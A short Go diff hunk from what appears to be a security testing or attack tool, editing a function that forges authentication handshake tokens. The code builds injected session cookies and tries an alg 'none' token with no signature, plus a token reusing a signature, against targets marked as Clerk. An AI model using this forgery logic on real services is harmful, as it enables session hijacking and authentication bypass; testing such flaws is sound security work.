@@ -136,7 +136,7 @@ func (r *run) forgedAnswers() {
 		return
 	}
 	t := split(answer)
-	payload := encoded(map[string]any{"handshake": []string{session, "__session_" + r.suffix() + "=" + good + "; Path=/", "__client_uat=1; Path=/"}})
+	payload := encoded(map[string]any{"handshake": []string{session, "__session_" + r.suffix + "=" + good + "; Path=/", "__client_uat=1; Path=/"}})
 	for _, raw := range []string{t.headed("alg", "none") + "." + payload + ".", t.headed() + "." + payload + "." + t.mark, good} {
 		for _, target := range r.readable() {
 			if target.Clerk {
